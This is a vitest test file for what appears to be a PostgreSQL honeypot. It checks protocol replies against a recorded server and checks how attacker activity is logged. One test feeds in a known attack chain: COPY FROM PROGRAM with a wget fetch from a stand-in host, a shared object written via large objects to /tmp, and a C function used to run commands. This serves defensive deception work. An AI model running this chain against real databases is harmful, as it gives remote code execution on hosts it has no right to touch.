import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { transcript } from '../../../test/transcripts/transcript.ts';
import { type Served, serve } from '../fixture.ts';
import { Memory } from '../memory.ts';
import { bodyOf, meet, type Stage } from '../play.ts';
import { message } from '../postgres/messages.ts';
import { postgres } from './postgres.ts';

const run = promisify(execFile);
const has = (program: string) =>
  ['/usr/bin', '/usr/sbin', '/bin'].some((folder) => existsSync(`${folder}/${program}`));
const ask = (words: string) => message('Q', `${words}\0`);
const plain = (type: string, body: string) =>
  message('x', body).subarray(1).toString('latin1').replace(/^/, type);
const startup = (user: string, database = 'postgres') =>
  plain('', `\0\x03\0\0user\0${user}\0database\0${database}\0\0`);
const md5 = (text: string, more = '') =>
  createHash('md5')
    .update(text + more, 'latin1')
    .digest('hex');

function known(): Memory {
  const memory = new Memory();
  memory.set('credentials', { tries: 1, wanted: 1, worked: { user: 'postgres', secret: 'postgres' } });
  return memory;
}

async function enter(stage: Stage = {}, secret = 'postgres') {
  const talk = meet(postgres, {
    memory: known(),
    ...stage,
    options: { version: '15.18', auth: 'md5', ...stage.options },
  });
  const salt = (await talk.say(startup('postgres'))).slice(9);
  const entered = await talk.say(message('p', `md5${md5(md5(`${secret}postgres`), salt)}\0`));
  return { talk, entered, salt };
}

describe('against PostgreSQL 15.18', () => {
  const [greeting, ...exchanges] = transcript('postgres/postgres-15.txt');
  // What only the real one has: its paths, its address, relations numbered since.
  const own =
    /^(show data_directory|select datname|SELECT \* FROM cmd_exec|select inet_server_addr|SELECT version)/i;

  it('says the same after a login', async () => {
    const { entered } = await enter();
    const key = entered.indexOf('K\0\0\0\x0c');
    const real = greeting!.answer;
    expect(entered.slice(0, key)).toBe(real.slice(0, real.indexOf('K\0\0\0\x0c')));
    expect(entered.slice(key + 13)).toBe('Z\0\0\0\x05I');
  });

  it('answers every recorded statement byte by byte', async () => {
    const { talk } = await enter();
    const wrong: string[] = [];
    for (const { say, answer } of exchanges) {
      const mine = await talk.say(ask(say.replace(/\\(.)/g, '$1')));
      if (own.test(say) ? mine === '' : mine !== answer)
        wrong.push(`${say}\n  mine ${JSON.stringify(mine)}\n  real ${JSON.stringify(answer)}`);
    }
    await talk.leave();
    expect(talk.faults).toEqual([]);
    expect(wrong.join('\n')).toBe('');
  });

  it.each([
    ['\0\0\0\x08\x04\xd2\x16\x2f', 'N'],
    ['\0\0\0\x08\x04\xd2\x16\x30', 'G'],
    [
      plain('', '\0\x02\0\0user\0'),
      'EFATAL:  unsupported frontend protocol 2.0: server supports 3.0 to 3.0\n\0',
    ],
    ['GET / HTTP/1.0\r\n\r\n', ''],
    ['\0\0\0\x03', ''],
    [
      startup('nouser') + message('X').toString('latin1'),
      'R\0\0\0\x17\0\0\0\nSCRAM-SHA-256\0\0E\0\0\0gSFATAL\0VFATAL\0C08P01\0Mexpected SASL response, got message type 88\0Fauth-sasl.c\0L95\0RCheckSASLAuth\0\0',
    ],
    [
      plain('', '\0\x03\0\0database\0x\0\0'),
      'E\0\0\0ySFATAL\0VFATAL\0C28000\0Mno PostgreSQL user name specified in startup packet\0Fpostmaster.c\0L2351\0RProcessStartupPacket\0\0',
    ],
  ])('answers %j as recorded', async (bytes, answer) => {
    const talk = meet(postgres, {});
    expect((await talk.say(bytes)) + (await talk.leave())).toBe(answer);
  });
});

describe('what is told', () => {
  it('tells a wrong password in hashcat form, and refuses as the real one', async () => {
    const { entered, talk, salt } = await enter({}, 'kT9#xq');
    await talk.leave();
    expect(entered).toBe(
      'E\0\0\0hSFATAL\0VFATAL\0C28P01\0Mpassword authentication failed for user "postgres"\0Fauth.c\0L334\0Rauth_failed\0\0',
    );
    const hash = `$postgres$postgres*${Buffer.from(salt, 'latin1').toString('hex')}*${md5(md5('kT9#xqpostgres'), salt)}`;
    expect(talk.events.map(bodyOf)).toContainEqual(
      expect.objectContaining({
        kind: 'login',
        ok: false,
        secret: hash,
        detail: { database: 'postgres', hash, recovered: false },
      }),
    );
  });

  it('plays COPY FROM PROGRAM, and keeps what is written through large objects', async () => {
    const { talk } = await enter();
    await talk.say(ask('CREATE TABLE c(o text)'));
    await talk.say(ask("COPY c FROM PROGRAM 'echo aGk= | base64 -d; wget http://192.0.2.9/x.sh'"));
    expect(await talk.say(ask('SELECT * FROM c'))).toContain('hi');
    await talk.say(ask("SELECT lo_from_bytea(4711, decode('f0VMRg==', 'base64'))"));
    await talk.say(ask("SELECT lo_export(4711, '/tmp/u.so')"));
    expect(
      await talk.say(ask("CREATE FUNCTION sys(cstring) RETURNS int AS '/tmp/u.so', 'sys' LANGUAGE C STRICT")),
    ).toContain('CREATE FUNCTION');
    await talk.say(ask("SELECT sys('id')"));
    await talk.leave();
    expect(talk.faults).toEqual([]);
    const bodies = talk.events.map(bodyOf);
    expect(bodies).toContainEqual(expect.objectContaining({ kind: 'upload', name: '/tmp/u.so', size: 4 }));
    expect(bodies).toContainEqual(
      expect.objectContaining({ kind: 'download', url: 'http://192.0.2.9/x.sh' }),
    );
    expect(bodies).toContainEqual(
      expect.objectContaining({ kind: 'command', input: 'id', detail: { function: 'sys' } }),
    );
  });

  it('speaks the extended protocol', async () => {
    const { talk } = await enter();
    const answer = await talk.say(
      Buffer.concat([
        message('P', '\0select $1::int + 1 as n\0\0\0'),
        message('B', '\0\0\0\0\0\x01\0\0\0\x0241\0\0'),
        message('D', 'P\0'),
        message('E', '\0\0\0\0\0'),
        message('S'),
      ]),
    );
    expect(answer).toMatch(
      /^1\0\0\0\x042\0\0\0\x04T[\s\S]*D\0\0\0\x0c\0\x01\0\0\0\x0242C\0\0\0\rSELECT 1\0Z\0\0\0\x05I$/,
    );
    expect(
      await talk.say(
        Buffer.concat([message('B', '\0nope\0\0\0\0\0\0\0'), message('E', '\0\0\0\0\0'), message('S')]),
      ),
    ).toMatch(/^E[^Z]*C26000[\s\S]*Z\0\0\0\x05I$/);
  });
});

describe('real clients', () => {
  let served: Served;
  beforeAll(async () => {
    served = await serve(postgres, { version: '15.18' });
  });
  afterAll(() => served.close());

  it.skipIf(!has('psql'))(
    'psql logs in by SCRAM and runs its own queries (skipped without psql)',
    async () => {
      const psql = async (...args: string[]) => {
        for (let n = 0; ; n++) {
          try {
            const env = { ...process.env, PGPASSWORD: 'postgres' };
            return (
              await run('psql', ['-h127.0.0.1', `-p${served.port}`, '-Upostgres', '-At', ...args], { env })
            ).stdout;
          } catch (error) {
            expect(String(error)).toContain('FATAL:  password authentication failed for user "postgres"');
            if (n === 3) throw error;
          }
        }
      };
      expect(await psql('-c', 'select 41 + 1', '-c', "select 'a' as b, true")).toBe('42\na|t\n');
      expect(await psql('-l')).toMatch(/^postgres\|postgres\|UTF8/m);
      expect(
        await psql(
          '-c',
          'create table z(a text, b int)',
          '-c',
          "insert into z values ('q', 2)",
          '-c',
          'select * from z',
          '-c',
          '\\dt',
        ),
      ).toMatch(/^CREATE TABLE\nINSERT 0 1\nq\|2\npublic\|z\|table\|postgres\n$/);
      expect(served.faults).toEqual([]);
      expect(served.events.find(({ kind }) => kind === 'fingerprint')).toMatchObject({ software: 'psql' });
    },
  );

  it.skipIf(!has('nmap'))('nmap names it PostgreSQL (skipped without nmap)', async () => {
    const { stdout } = await run('nmap', ['-Pn', '-sV', `-p${served.port}`, '127.0.0.1']);
    expect(stdout).toMatch(/open\s+postgresql\s+PostgreSQL DB/);
  });
});
